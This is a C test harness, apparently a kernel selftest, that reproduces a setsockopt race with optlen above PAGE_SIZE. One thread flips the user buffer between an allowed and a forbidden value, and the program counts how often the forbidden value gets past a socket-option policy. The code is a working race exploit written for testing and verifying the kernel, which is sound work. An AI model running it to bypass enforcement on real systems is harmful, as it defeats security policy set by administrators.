// SPDX-License-Identifier: GPL-2.0-only
/*
 * The optlen > PAGE_SIZE race, as an attacker runs it: one thread calls
 * setsockopt(fd, LEVEL, OPTNAME, buf, 8192) in a loop while a second thread
 * flips the value at the start of buf between GOOD (a value the policy lets
 * through unchanged) and BAD (one it forbids).  After every call the socket's
 * value is read back with getsockopt: BAD on the socket is an escape (the
 * program checked GOOD and the kernel then read BAD from the user's buffer).
 *
 *   race [-n MIN] [-t SECONDS] LEVEL OPTNAME GOOD BAD LIMIT
 *   race -s [-n MIN] [-t SECONDS] LEVEL OPTNAME GOOD BAD
 *
 * Ints: an escape is a socket value above LIMIT (what GOOD, or the rule's own
 * value, reads back as; the kernel doubles SO_RCVBUF).  -s: GOOD and BAD are
 * strings of up to 7 characters (TCP_CONGESTION), an escape is BAD read back.
 * Runs until MIN calls (default 1000000) or SECONDS (default 30) have passed,
 * whichever comes first, and prints
 *   "calls=N escapes=E first=F set_ok=A set_err=B"
 * (F: the call of the first escape, 0 for none).  Each escape resets the
 * socket with a plain 4-byte call of GOOD, so that the next one is counted
 * on its own.
 */
#include <errno.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <time.h>
#include <unistd.h>

#define OPTLEN	8192	/* above PAGE_SIZE: the program sees only the first page */

static unsigned char buf[OPTLEN] __attribute__((aligned(64)));
static uint64_t good_word, bad_word;
static volatile int stop;

/* The value as the first 8 bytes of buf: an int, or a NUL-padded string. */
static int to_word(int str, const char *s, uint64_t *w)
{
	char *end;
	long v;

	*w = 0;
	if (str) {
		if (strlen(s) > 7 || !*s)
			return -1;
		memcpy(w, s, strlen(s));
		return 0;
	}
	errno = 0;
	v = strtol(s, &end, 0);
	if (errno || *end || !*s)
		return -1;
	*w = (uint32_t)(int32_t)v;
	return 0;
}

static void *flipper(void *arg)
{
	uint64_t *w = (uint64_t *)buf;

	(void)arg;
	while (!stop) {
		__atomic_store_n(w, good_word, __ATOMIC_RELAXED);
		__atomic_store_n(w, bad_word, __ATOMIC_RELAXED);
	}
	__atomic_store_n(w, good_word, __ATOMIC_RELAXED);
	return NULL;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	unsigned long long calls = 0, escapes = 0, first = 0, set_ok = 0, set_err = 0, min = 1000000;
	double secs = 30, deadline;
	int c, str = 0, fd, level, optname;
	long limit = 0;
	const char *good, *bad;
	pthread_t th;

	while ((c = getopt(argc, argv, "n:st:")) != -1) {
		if (c == 'n')
			min = strtoull(optarg, NULL, 10);
		else if (c == 's')
			str = 1;
		else if (c == 't')
			secs = atof(optarg);
		else
			return 2;
	}
	if (argc - optind != (str ? 4 : 5)) {
		fprintf(stderr, "usage: race [-n MIN] [-t SECONDS] LEVEL OPTNAME GOOD BAD LIMIT\n"
			"       race -s [-n MIN] [-t SECONDS] LEVEL OPTNAME GOOD BAD\n");
		return 2;
	}
	level = atoi(argv[optind]);
	optname = atoi(argv[optind + 1]);
	good = argv[optind + 2];
	bad = argv[optind + 3];
	if (!str)
		limit = strtol(argv[optind + 4], NULL, 0);
	if (to_word(str, good, &good_word) || to_word(str, bad, &bad_word)) {
		fprintf(stderr, "race: bad value\n");
		return 2;
	}
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0) {
		perror("race: socket");
		return 1;
	}
	memcpy(buf, &good_word, sizeof(good_word));
	if (pthread_create(&th, NULL, flipper, NULL)) {
		fprintf(stderr, "race: pthread_create failed\n");
		return 1;
	}
	deadline = now() + secs;
	while (calls < min && ((calls & 1023) || now() < deadline)) {
		char got[16] = "";
		socklen_t len = str ? sizeof(got) : sizeof(int);
		int v = 0, escaped;

		calls++;
		if (setsockopt(fd, level, optname, buf, OPTLEN) == 0)
			set_ok++;
		else
			set_err++;
		if (getsockopt(fd, level, optname, str ? (void *)got : (void *)&v, &len) < 0) {
			perror("race: getsockopt");
			stop = 1;
			pthread_join(th, NULL);
			return 1;
		}
		escaped = str ? !strncmp(got, bad, sizeof(got)) : v > limit;
		if (!escaped)
			continue;
		if (!escapes++)
			first = calls;
		/* put the socket back to GOOD with a call no thread can race */
		if (str ? setsockopt(fd, level, optname, good, strlen(good)) :
			  setsockopt(fd, level, optname, &good_word, sizeof(int))) {
			perror("race: reset");
			stop = 1;
			pthread_join(th, NULL);
			return 1;
		}
	}
	stop = 1;
	pthread_join(th, NULL);
	printf("calls=%llu escapes=%llu first=%llu set_ok=%llu set_err=%llu\n", calls, escapes,
	       first, set_ok, set_err);
	return 0;
}
